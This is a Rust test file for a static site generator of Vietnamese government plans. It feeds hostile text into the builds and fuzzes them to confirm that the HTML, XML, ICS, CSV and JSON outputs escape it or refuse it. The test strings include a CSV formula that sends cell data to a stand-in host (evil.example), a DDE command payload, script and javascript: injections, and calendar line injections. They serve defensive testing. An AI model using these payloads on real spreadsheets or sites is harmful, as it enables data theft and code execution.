//! Hostile content: text that tries to break out of HTML, XML, ICS, CSV or
//! JSON, characters no output can carry, base URLs with line breaks, and
//! Markdown nested deep enough to stall a sanitiser. Either the build
//! refuses it with the file and line, or every file it writes still parses
//! and shows the text as text.

mod common;

use common::{TempSite, tree};
use plansite::build::{BuildOptions, Silent, build};
use proptest::prelude::*;
use std::path::Path;

/// A tag no page of ours has: if it ever appears raw in an HTML, XML or
/// ICS file, content escaped its context.
const TAG: &str = "<x-pwn>";

/// Every HTML, XML, ICS, CSV and JSON file under `out` parses, and no
/// content tag appears raw in markup. Returns how many files were checked.
fn assert_outputs_parse(out: &Path) -> usize {
    let files = tree(out);
    for (path, (bytes, _)) in &files {
        let ext = path.rsplit('.').next().unwrap_or("");
        let text = || std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{path}: not UTF-8: {e}"));
        match ext {
            "xml" => {
                let doc = roxmltree::Document::parse(text()).unwrap_or_else(|e| panic!("{path}: {e}"));
                assert!(!doc.descendants().any(|n| n.tag_name().name() == "x-pwn"), "{path}: raw tag");
            }
            "json" => {
                serde_json::from_slice::<serde_json::Value>(bytes).unwrap_or_else(|e| panic!("{path}: {e}"));
            }
            "csv" => assert_csv(path, bytes),
            "ics" => assert_ics(path, text()),
            "html" => {
                assert!(!text().contains(TAG), "{path}: content tag unescaped");
                assert!(
                    !text().chars().any(|c| c.is_control() && !"\t\n\r".contains(c)),
                    "{path}: control char"
                );
            }
            _ => {}
        }
    }
    files.len()
}

/// Every record has the header's width and no cell can run as a formula.
fn assert_csv(path: &str, bytes: &[u8]) {
    let mut reader = csv::Reader::from_reader(bytes);
    let width = reader.headers().unwrap_or_else(|e| panic!("{path}: {e}")).len();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{path}: {e}"));
        assert_eq!(record.len(), width, "{path}: ragged row");
        for cell in &record {
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            let number =
                cell.trim_start_matches(['-', '+']).trim_end_matches('%').replace(',', ".").parse::<f64>();
            assert!(!risky || number.is_ok() || cell.len() == 1, "{path}: formula cell {cell:?}");
        }
    }
}

/// RFC 5545: CRLF line ends only, content lines of at most 75 octets, no
/// control characters but tab, the calendar opened and closed.
fn assert_ics(path: &str, text: &str) {
    assert!(text.starts_with("BEGIN:VCALENDAR\r\n") && text.ends_with("END:VCALENDAR\r\n"), "{path}");
    let body = text.strip_suffix("\r\n").unwrap_or(text);
    for line in body.split("\r\n") {
        assert!(line.len() <= 75, "{path}: line over 75 octets: {line:?}");
        assert!(!line.chars().any(|c| c.is_control() && c != '\t'), "{path}: control char in {line:?}");
        assert!(!line.contains(TAG) || line.starts_with(' ') || line.contains(':'), "{path}");
    }
}

/// A TOML basic string holding `s`, with every character TOML needs escaped.
fn toml_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Gives the real plan's first task, and its title, hostile text; builds
/// once before so the change lands in the feeds.
fn with_hostile_titles(site: &TempSite, title: &str) {
    let plan = site.plan_file();
    let text = site.read(&plan);
    let first = "title = { vi = \"Xây dựng, trình UBND Thành phố ban hành";
    let at = text.find(first).expect("task 1");
    let end = at + text[at..].find('\n').expect("line end");
    let line = format!("title = {{ vi = {}, en = {} }}", toml_str(title), toml_str(title));
    site.write(&plan, &format!("{}{line}{}", &text[..at], &text[end..]));
}

const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") <x-pwn>]]></title><script>alert(1)</script> \
                       & \"q\" 'a' ; , \\ END:VEVENT BEGIN:VEVENT @SUM(1) +1 -1";

#[test]
fn hostile_text_is_escaped_in_every_output_and_every_file_parses() {
    let site = TempSite::copy_of_repo();
    site.build().expect("first build");
    with_hostile_titles(&site, HOSTILE);
    site.build().expect("hostile but printable text builds");
    let checked = assert_outputs_parse(&site.out());
    assert!(checked > 1000, "{checked} files");
    let csv = site.read("public/data/tasks.csv");
    assert!(csv.contains("\"'=HYPERLINK("), "the formula is neutralised: {}", &csv[..400.min(csv.len())]);
    let feed = site.read("public/en/feed.xml");
    // The entry's HTML is itself escaped into the feed: text, not markup, twice.
    assert!(feed.contains("&amp;lt;x-pwn&amp;gt;"), "the change with the hostile title is in the feed");
    let json: serde_json::Value = serde_json::from_str(&site.read("public/data/tasks.json")).expect("json");
    let title = &json["tasks"]
        .as_array()
        .expect("tasks")
        .iter()
        .find(|t| t["id"] == "hue-2025-03-nq-cp/1")
        .expect("task")["title"]["vi"];
    assert_eq!(title, HOSTILE, "open data keeps the text exactly");
}

#[test]
fn control_characters_are_refused_with_the_line_and_nothing_is_published() {
    for c in ['\u{c}', '\u{7}', '\u{1b}', '\r', '\u{85}', '\u{202e}', '\u{ffff}'] {
        let site = TempSite::copy_of_repo();
        with_hostile_titles(&site, &format!("Kế hoạch{c}feed breaker"));
        let line =
            site.read(&site.plan_file()).lines().position(|l| l.contains("feed breaker")).expect("line") + 1;
        let run = site.cli(&["build"]);
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert!(!run.status.success(), "U+{:04X} was accepted", c as u32);
        let at = format!("content/plans/hue-2025-03-nq-cp.toml:{line}: this text holds");
        assert!(stderr.contains(&at) && stderr.contains(&format!("U+{:04X}", c as u32)), "{stderr}");
        assert!(!site.out().exists());
    }
}

#[test]
fn a_base_url_that_could_break_a_feed_is_refused() {
    let site = TempSite::copy_of_repo();
    for bad in
        ["https://plans.example.org/\\r\\nX: 1", "https://x.org/\\\"><x-pwn>", "https://x.org/?a=1&b=2"]
    {
        site.edit(
            "content/site.toml",
            "base_url = \"https://plans.example.org/\"",
            &format!("base_url = \"{bad}\""),
        );
        let run = site.cli(&["build"]);
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert!(!run.status.success(), "{bad} was accepted");
        assert!(stderr.contains("content/site.toml:"), "{stderr}");
        site.edit(
            "content/site.toml",
            &format!("base_url = \"{bad}\""),
            "base_url = \"https://plans.example.org/\"",
        );
        let run = site.cli(&["build", "--base-url", &bad.replace("\\r\\n", "\r\n").replace("\\\"", "\"")]);
        assert!(!run.status.success(), "--base-url {bad} was accepted");
    }
}

#[test]
fn deeply_nested_markdown_is_refused_at_once() {
    for (what, body) in [
        ("quotes", ">".repeat(100_000) + " x"),
        ("divs", "<div>".repeat(20_000)),
        ("lists", (0..200).map(|i| "  ".repeat(i) + "- x\n").collect::<String>()),
    ] {
        let site = TempSite::copy_of_repo();
        let plan = site.plan_file();
        let deep = format!(
            "\n[[sections]]\nid = \"deep\"\nheading = {{ vi = \"X\" }}\nbody = {{ vi = {} }}\n",
            toml_str(&body)
        );
        site.write(&plan, &(site.read(&plan) + &deep));
        let started = std::time::Instant::now();
        let run = site.cli(&["check"]);
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert!(!run.status.success(), "{what} accepted");
        assert!(stderr.contains("levels deep") && stderr.contains("at most 48 levels"), "{what}: {stderr}");
        eprintln!("{what}: refused in {:?}", started.elapsed());
    }
}

// ---------------------------------------------------------------------------
// Fuzz: small random sites with hostile strings.

/// Pieces that break parsers, mixed with Vietnamese and random text.
fn hostile_string() -> impl Strategy<Value = String> {
    // Mostly text that must build and be escaped; now and then a character
    // that must be refused.
    let printable = prop_oneof![
        Just(TAG.to_string()),
        Just("]]>".to_string()),
        Just("</script><script>".to_string()),
        Just("&amp;&#x0;&".to_string()),
        Just("=cmd|' /C calc'!A0".to_string()),
        Just("+1".to_string()),
        Just("@x".to_string()),
        Just("\\\"';,".to_string()),
        Just("\n".to_string()),
        Just("\t".to_string()),
        Just("BEGIN:VEVENT END:VCALENDAR".to_string()),
        Just("Sở Khoa học và Công nghệ đầu tư".to_string()),
        Just("{{ x }}{% raw %}".to_string()),
        Just("> > > # *[x](javascript:alert(1))*".to_string()),
        "[^\\p{C}]{0,12}",
        "[a-zA-Z0-9 ]{1,20}",
    ];
    let refused = prop_oneof![
        Just("\r\n".to_string()),
        Just("\u{c}".to_string()),
        Just("\u{0}".to_string()),
        Just("\u{85}".to_string()),
        Just("\u{202e}".to_string()),
        Just("\u{ffff}".to_string()),
    ];
    let piece = prop_oneof![40 => printable, 1 => refused];
    prop::collection::vec(piece, 1..6).prop_map(|v| v.concat())
}

fn fuzz_site(dir: &Path, title: &str, tasks: &[(String, String)], agency: &str) {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let write = |rel: &str, text: &str| {
        let path = dir.join(rel);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    };
    write(
        "content/site.toml",
        &format!(
            "title = {{ vi = {t}, en = {t} }}\nbase_url = \"https://fuzz.example/\"\n",
            t = toml_str(title)
        ),
    );
    write(
        "content/agencies/fz.toml",
        &format!(
            "[jurisdiction]\nname = {{ vi = \"Tỉnh Thử\", en = \"Test Province\" }}\n\n\
             [[agencies]]\nid = \"fz-so\"\nname = {{ vi = {a}, en = {a} }}\nkind = \"department\"\n",
            a = toml_str(agency)
        ),
    );
    write("seeds/fz.txt", &format!("KẾ HOẠCH\n{title}\n"));
    let mut plan = format!(
        "jurisdiction = \"fz\"\nissuer = {{ vi = \"UBND tỉnh\" }}\ndate = \"2026-01-15\"\nstatus = \"issued\"\nsource = \"seeds/fz.txt\"\n\
         title = {{ vi = {t}, en = {t} }}\n\n[[sections]]\nid = \"s\"\nnumber = \"I\"\n\
         heading = {{ vi = {t} }}\nbody = {{ vi = {t} }}\n",
        t = toml_str(title)
    );
    for (i, (task, deadline)) in tasks.iter().enumerate() {
        plan.push_str(&format!(
            "\n[[tasks]]\nid = \"t{i}\"\nnumber = {n}\ntitle = {{ vi = {t}, en = {t} }}\ndetail = {{ vi = {t} }}\n\
             lead = [\"fz-so\"]\noutput = {{ vi = {t} }}\ndeadline = {{ vi = {d} }}\n",
            n = toml_str(&format!("{}.", i + 1)),
            t = toml_str(task),
            d = toml_str(deadline)
        ));
    }
    write("content/plans/fz-plan.toml", &plan);
    let theme = repo.join("themes");
    for entry in walkdir::WalkDir::new(&theme) {
        let entry = entry.expect("walk");
        let target = dir.join("themes").join(entry.path().strip_prefix(&theme).expect("prefix"));
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).expect("mkdir");
        } else {
            std::fs::copy(entry.path(), &target).expect("copy");
        }
    }
}

fn deadline() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("2026".to_string()),
        Just("Quý I/2026".to_string()),
        Just("Thường xuyên".to_string()),
        Just("Tháng 13/2026".to_string()),
        hostile_string(),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 40, failure_persistence: None, ..ProptestConfig::default() })]

    /// Builds twice (the second with other text, so the feeds have entries):
    /// each build succeeds or refuses the content cleanly, and what it
    /// publishes parses.
    #[test]
    fn hostile_sites_build_or_fail_cleanly(
        title in hostile_string(),
        agency in hostile_string(),
        tasks in prop::collection::vec((hostile_string(), deadline()), 1..4),
        changed in hostile_string(),
    ) {
        let dir = tempfile::tempdir().expect("dir");
        let options = BuildOptions {
            root: dir.path().to_path_buf(),
            out: dir.path().join("public"),
            base_url: None,
            drafts: false,
            now: Some("2026-02-01T00:00:00Z".into()), today: None,
        };
        fuzz_site(dir.path(), &title, &tasks, &agency);
        let first = build(&options, &mut Silent);
        let mut edited = tasks.clone();
        edited[0].0 = changed;
        fuzz_site(dir.path(), &title, &edited, &agency);
        let second = build(&BuildOptions { now: Some("2026-02-02T00:00:00Z".into()), today: None, ..options.clone() }, &mut Silent);
        for result in [first, second] {
            match result {
                Ok(_) => {}
                Err(plansite::Error::Invalid(problems)) => {
                    prop_assert!(problems.iter().all(|p| p.file.starts_with("content")), "{problems:?}");
                }
                Err(other) => prop_assert!(false, "not a content error: {other}"),
            }
        }
        if options.out.exists() {
            assert_outputs_parse(&options.out);
        }
    }
}
